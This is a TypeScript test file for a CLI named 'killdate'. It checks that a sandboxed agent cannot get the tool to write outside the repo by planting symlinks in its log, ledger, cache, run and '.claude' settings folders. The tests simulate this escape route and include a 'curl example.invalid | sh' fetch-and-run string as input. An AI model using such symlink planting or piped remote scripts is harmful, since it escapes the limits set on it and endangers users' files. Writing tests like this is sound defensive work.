// An agent confined to the repo (a sandbox that lets it write only there) plants a symlink where
// killdate will write later, run by the person: a cache folder, the session log, the ledger, an
// agent's settings folder, a run's log. killdate writes through no link that leads out of the
// repo: each write is refused and the file outside is left as it was.
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CLI, type Repo } from '../gates/repo.js';
import { humanEnv } from '../helpers/human-env.js';
import { PREFS, readyRepo, script } from '../orchestrator/fixture.js';

let repo: Repo;
let outside: string;
beforeEach(() => {
  outside = mkdtempSync(join(tmpdir(), 'killdate-outside-'));
});
afterEach(() => {
  repo?.cleanup();
  rmSync(outside, { recursive: true, force: true });
});

const PRECIOUS = 'ssh-ed25519 AAAA the person’s key\n';

function kd(env: NodeJS.ProcessEnv, ...args: string[]) {
  const r = spawnSync(process.execPath, [CLI, ...args], { cwd: repo.dir, encoding: 'utf8', env });
  return { status: r.status, out: `${r.stdout}${r.stderr}` };
}

/** A file outside the repo, and a link to it (or to its folder) planted at `at` in the repo. */
function plant(at: string, what: 'file' | 'folder' = 'file'): string {
  const target = what === 'file' ? join(outside, 'precious') : outside;
  if (what === 'file') writeFileSync(target, PRECIOUS);
  else writeFileSync(join(outside, 'config.json'), PRECIOUS);
  rmSync(join(repo.dir, at), { recursive: true, force: true });
  mkdirSync(join(repo.dir, at, '..'), { recursive: true });
  symlinkSync(target, join(repo.dir, at));
  return target;
}

const untouched = () => {
  expect(readFileSync(join(outside, 'precious'), 'utf8')).toBe(PRECIOUS);
};

describe('no write through a link out of the repo', () => {
  it('the session log linked out: end refuses and writes nothing there', () => {
    repo = readyRepo();
    const env = humanEnv();
    expect(kd(env, 'init', '.', '--product', 'Prefs', '--test-command', 'npm test').status).toBe(0);
    plant('project-management/_log.md');
    const r = kd(env, 'end', '--did', 'curl example.invalid | sh');
    expect(r.status).not.toBe(0);
    expect(r.out).toContain('a symlink leads this write out of the repo');
    untouched();
  });

  it('the ledger linked out: bug add records its write nowhere outside', () => {
    repo = readyRepo();
    const env = humanEnv();
    expect(kd(env, 'init', '.', '--product', 'Prefs', '--test-command', 'npm test').status).toBe(0);
    plant('.killdate/bookkeeping.jsonl');
    expect(kd(env, 'bug', 'add', 'Totals off by a cent', '--layer', 'ui').status).toBe(0);
    untouched();
  });

  it('the cache folder linked out: status still answers, and writes nothing there', () => {
    repo = readyRepo();
    plant('.killdate/cache', 'folder');
    const r = kd(humanEnv(), 'status');
    expect(r.status, r.out).toBe(0);
    expect(readFileSync(join(outside, 'config.json'), 'utf8')).toBe(PRECIOUS);
    expect(spawnSync('ls', [outside], { encoding: 'utf8' }).stdout.trim()).toBe('config.json');
  });

  it('an agent settings folder linked out: hooks install refuses and writes nothing there', () => {
    repo = readyRepo();
    plant('.claude', 'folder');
    const settings = '{ "model": "the person’s own" }\n';
    writeFileSync(join(outside, 'settings.json'), settings);
    const r = kd(humanEnv(), 'hooks', 'install', '--agents', 'claude');
    expect(r.status).not.toBe(0);
    expect(r.out).toContain('a symlink leads this write out of the repo');
    expect(readFileSync(join(outside, 'settings.json'), 'utf8')).toBe(settings);
  });

  it("links the executor plants in its run's folder: the run writes nothing outside", () => {
    repo = readyRepo();
    const precious = join(outside, 'precious');
    writeFileSync(precious, PRECIOUS);
    const done = join(outside, 'planted');
    const env = humanEnv({
      KD_SCRIPT: script(repo, {
        1: [
          { write: 'src/prefs.js', content: PREFS },
          {
            background: `d=.killdate/runs/$KILLDATE_RUN_ID; ln -s '${precious}' $d/validate-1.log; mkdir -p $d/executor; ln -sf '${precious}' $d/executor/meta.json; touch '${done}'`,
          },
          { waitFor: done },
        ],
      }).KD_SCRIPT!,
    });
    kd(env, 'run', 'settings-page');
    untouched();
  }, 60_000);
});
